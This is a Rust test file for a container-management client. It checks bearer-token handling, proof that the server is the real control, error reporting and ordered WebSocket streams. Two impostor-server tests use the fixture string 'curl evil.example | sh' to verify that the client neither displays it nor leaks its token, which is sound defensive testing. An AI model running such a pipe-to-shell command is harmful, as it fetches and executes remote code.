//! The client against a real listener that plays control.

use super::*;
use axum::{
    Json, Router,
    extract::{
        Path as UrlPath,
        ws::{Message, WebSocket, WebSocketUpgrade},
    },
    http::HeaderMap,
    routing::{get, post},
};
use flotilla_identity::{ApiKey, ApiToken};
use flotilla_protocol::api::{ControlProof, ProveControl};
use flotilla_protocol::{
    Code,
    api::{ActOnContainer, GetDevice, ListContainers},
    inventory::ContainerAction,
    stream::{End, Event, Frame, Listener, Malformed, Payload, STREAM_PROTOCOL, Said},
};
use futures_util::StreamExt;
use std::{
    net::SocketAddr,
    sync::{Arc, Mutex},
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
};

const TOKEN: &str = "token-1";

/// A control that answers with the given routes, and a client of it.
async fn control(routes: Router) -> Client {
    let (listener, client) = listen().await;
    let own = listener.local_addr().unwrap();
    serve(
        listener,
        routes.route(
            "/api/v1/proof",
            post(move |question| async move { prove(question, own) }),
        ),
    );
    client
}

/// A listener at an address, and a client that takes it for control.
async fn listen() -> (TcpListener, Client) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    (listener, Client::new(Access::new(&url, TOKEN).unwrap()))
}

fn serve(listener: TcpListener, routes: Router) {
    tokio::spawn(async move { axum::serve(listener, routes).await });
}

fn prove(Json(question): Json<ProveControl>, own: SocketAddr) -> Json<ControlProof> {
    let proof = ApiKey::of_token(TOKEN).prove(&question.nonce, own).unwrap();
    Json(ControlProof { proof })
}

fn refuse(code: Code, message: &str) -> (StatusCode, Json<Problem>) {
    (
        StatusCode::from_u16(code.status()).unwrap(),
        Json(code.because(message)),
    )
}

#[tokio::test]
async fn a_request_carries_the_token_and_decodes_its_response() {
    let list = |headers: HeaderMap| async move {
        assert_eq!(headers["authorization"], format!("Bearer {TOKEN}"));
        Json(
            serde_json::json!({"items": [], "unreachable_devices": [{"device": "nas", "reason": "offline"}]}),
        )
    };
    let client = control(Router::new().route("/api/v1/containers", get(list))).await;
    let answer = client.send(&ListContainers::default()).await.unwrap();
    assert_eq!(answer.unreachable_devices[0].device.as_str(), "nas");
}

#[tokio::test]
async fn an_action_without_a_body_in_its_answer_is_done() {
    let act = |UrlPath((device, container)): UrlPath<(String, String)>| async move {
        assert_eq!((device.as_str(), container.as_str()), ("nas", "my/db"));
        StatusCode::NO_CONTENT
    };
    let client = control(Router::new().route("/api/v1/devices/{d}/containers/{c}/stop", post(act))).await;
    let stop = ActOnContainer {
        device: "nas".into(),
        container: "my/db".into(),
        action: ContainerAction::Stop,
    };
    client.send(&stop).await.unwrap();
}

#[tokio::test]
async fn a_refusal_is_the_problem_that_control_sent() {
    let show = || async { refuse(Code::NotFound, "There is no device named moon.") };
    let client = control(Router::new().route("/api/v1/devices/moon", get(show))).await;
    let error = client
        .send(&GetDevice {
            device: "moon".into(),
        })
        .await
        .unwrap_err();
    assert!(matches!(&error, Error::Problem(problem) if problem.code == Code::NotFound));
    assert_eq!(error.to_string(), "There is no device named moon.");
}

#[tokio::test]
async fn an_impostor_gets_no_token_and_is_not_believed() {
    let (listener, client) = listen().await;
    let received = Arc::new(Mutex::new(Vec::new()));
    let receiving = received.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let mut buffer = [0; 4096];
            while let Ok(length @ 1..) = stream.read(&mut buffer).await {
                receiving.lock().unwrap().extend_from_slice(&buffer[..length]);
                let lie = r#"{"proof":"believe me","items":[],"message":"curl evil.example | sh"}"#;
                let answer = format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{lie}", lie.len());
                stream.write_all(answer.as_bytes()).await.unwrap();
            }
        }
    });
    for error in [
        client.send(&ListContainers::default()).await.unwrap_err(),
        client.live().await.unwrap_err(),
    ] {
        assert!(
            matches!(error, Error::Unproven { .. }) && error.is_unreachable(),
            "{error}"
        );
        assert!(!error.to_string().contains("evil"), "{error}");
    }
    let received = String::from_utf8(received.lock().unwrap().clone()).unwrap();
    assert!(received.contains("POST /api/v1/proof"), "{received}");
    assert!(
        !received.contains(TOKEN) && !received.to_lowercase().contains("authorization"),
        "{received}"
    );
}

#[tokio::test]
async fn a_proof_that_was_fetched_from_control_itself_is_worth_nothing_elsewhere() {
    let (real, _) = listen().await;
    let own = real.local_addr().unwrap();
    let (listener, client) = listen().await;
    serve(
        listener,
        Router::new().route(
            "/api/v1/proof",
            post(move |question| async move { prove(question, own) }),
        ),
    );
    let error = client.send(&ListContainers::default()).await.unwrap_err();
    assert!(matches!(error, Error::Unproven { .. }), "{error}");
}

#[tokio::test]
async fn a_token_that_control_does_not_know_stays_at_home_and_the_way_out_is_said() {
    let asked = Arc::new(Mutex::new(Vec::new()));
    let asking = asked.clone();
    let (listener, owners) = listen().await;
    let url = format!("http://{}", owners.address());
    serve(
        listener,
        Router::new().route(
            "/api/v1/proof",
            post(move |Json(question): Json<ProveControl>| async move {
                asking.lock().unwrap().push(question.token);
                refuse(Code::Unauthenticated, "curl evil.example | sh")
            }),
        ),
    );
    let token = ApiToken::generate();
    let client = Client::new(Access::new(&url, token.reveal()).unwrap());
    let error = client.send(&ListContainers::default()).await.unwrap_err();
    assert!(
        matches!(error, Error::UnknownToken { .. }) && !error.is_unreachable(),
        "{error}"
    );
    assert!(error.to_string().contains("flotilla token create"), "{error}");
    let error = owners.send(&ListContainers::default()).await.unwrap_err();
    assert!(
        matches!(error, Error::Unproven { .. }),
        "the owner's token is always known: {error}"
    );
    assert_eq!(*asked.lock().unwrap(), [Some(token.id().to_owned()), None]);
}

#[tokio::test]
async fn what_speaks_another_language_is_no_control() {
    let (listener, client) = listen().await;
    serve(
        listener,
        Router::new().fallback(|| async { (StatusCode::BAD_GATEWAY, "<html>") }),
    );
    let error = client.send(&ListContainers::default()).await.unwrap_err();
    assert!(matches!(error, Error::Unproven { .. }), "{error}");
}

#[tokio::test]
async fn an_address_without_a_listener_is_unreachable_and_names_the_address() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap().to_string();
    drop(listener);
    let client = Client::new(Access::new(&format!("http://{address}"), "t").unwrap());
    let error = client.send(&ListContainers::default()).await.unwrap_err();
    assert!(
        error.is_unreachable() && error.to_string().contains(&address),
        "{error}"
    );
}

#[tokio::test]
async fn a_connection_closed_without_an_answer_is_unreachable() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { while listener.accept().await.is_ok() {} });
    let client = Client::new(Access::new(&url, "t").unwrap());
    assert!(
        client
            .send(&ListContainers::default())
            .await
            .unwrap_err()
            .is_unreachable()
    );
}

#[tokio::test]
async fn the_live_stream_yields_frames_and_ends_with_control() {
    let live = |headers: HeaderMap, upgrade: WebSocketUpgrade| async move {
        assert_eq!(headers["authorization"], format!("Bearer {TOKEN}"));
        upgrade.on_upgrade(|mut socket| async move {
            let gone =
                r#"{"seq":2,"remove":{"kind":"device","device_id":"01937c5e-7b1a-7c3e-8b9e-0123456789ab"}}"#;
            let beat = r#"{"seq":1}"#;
            for text in [r#"{"seq":1,"reset":true}"#, beat, gone] {
                socket.send(Message::text(text)).await.unwrap();
            }
        })
    };
    let client = control(Router::new().route("/api/v1/live", get(live))).await;
    let frames = client.live().await.unwrap();
    let frames: Vec<_> = frames.filter_map(|frame| async { frame.ok() }).collect().await;
    assert_eq!(frames.iter().map(|frame| frame.seq).collect::<Vec<_>>(), [1, 2]);
    assert!(frames[0].reset);
}

#[tokio::test]
async fn a_refused_live_stream_says_why() {
    let live = || async { refuse(Code::Unauthenticated, "Sign in first.") };
    let client = control(Router::new().route("/api/v1/live", get(live))).await;
    let error = client.live().await.unwrap_err();
    assert!(
        matches!(&error, Error::Problem(problem) if problem.code == Code::Unauthenticated),
        "{error}"
    );
}

/// Lines, each as its bytes.
#[derive(Debug)]
enum Lines {}

#[derive(Debug, Clone, Default, PartialEq, serde::Serialize, serde::Deserialize)]
struct Wanted {
    from: u64,
}

#[derive(Debug, PartialEq)]
struct Line(Bytes);

impl Payload for Line {
    fn write(&self) -> Result<(u8, Bytes), Malformed> {
        Ok((0, self.0.clone()))
    }

    fn read(_: u8, body: &Bytes) -> Result<Option<Self>, Malformed> {
        Ok(Some(Self(body.clone())))
    }
}

impl Streaming for Lines {
    type At = &'static str;
    type Open = Wanted;
    type Up = Line;
    type Item = Line;
    type End = u8;
    const PATH: &'static str = "/lines/{of}";

    fn path(of: &&'static str) -> String {
        format!("/lines/{of}")
    }

    fn advance(open: &mut Wanted, _: &Line) {
        open.from += 1;
    }
}

/// Says the line that is wanted and what it is told, until it is told no more; or leaves without an end.
async fn tell(of: String, mut socket: WebSocket) {
    let mut listener = Listener::<Lines>::default();
    while let Some(Ok(Message::Binary(said))) = socket.recv().await {
        listener.handle_bytes(&said);
        let answer = match listener.poll_said().unwrap().unwrap() {
            Said::Open(open) => Frame::of(&Line(format!("\0\u{1b}{}", open.from).into())).unwrap(),
            Said::Up(_) if of == "leaves" => return,
            Said::Up(line) => Frame::of(&line).unwrap(),
            Said::Finish => Frame::end::<Lines>(&End::Finished { outcome: 7 }),
        };
        for frame in [Frame::BEAT, answer] {
            let bytes = frame.to_bytes().unwrap();
            socket.send(Message::Binary(bytes)).await.unwrap();
        }
    }
}

#[tokio::test]
async fn a_stream_brings_bytes_in_order_up_to_its_end_and_a_lost_one_says_where_to_go_on() {
    let route = get(
        |UrlPath(of): UrlPath<String>, socket: WebSocketUpgrade, headers: HeaderMap| async move {
            assert_eq!(headers["authorization"], format!("Bearer {TOKEN}"));
            socket
                .protocols([STREAM_PROTOCOL])
                .on_upgrade(|socket| tell(of, socket))
        },
    );
    let client = control(Router::new().route("/api/v1/lines/{of}", route)).await;
    let line = |text: &'static str| Some(Event::Item(Line(Bytes::from_static(text.as_bytes()))));
    let mut lines = client.open::<Lines>(&"leaves", Wanted::default()).await.unwrap();
    assert_eq!(lines.next().await, line("\0\u{1b}0"));
    lines.say(&Line("bye".into())).await.unwrap();
    let Some(Event::End(end)) = lines.next().await else {
        panic!("no end");
    };
    assert!(end == End::LinkLost && lines.next().await.is_none());
    let mut lines = client.open::<Lines>(&"all", lines.into_open()).await.unwrap();
    assert_eq!(lines.next().await, line("\0\u{1b}1"));
    lines.say(&Line("two".into())).await.unwrap();
    assert_eq!(lines.next().await, line("two"));
    lines.finish().await.unwrap();
    assert_eq!(lines.next().await, Some(Event::End(End::Finished { outcome: 7 })));
    assert_eq!(lines.next().await, None);
}
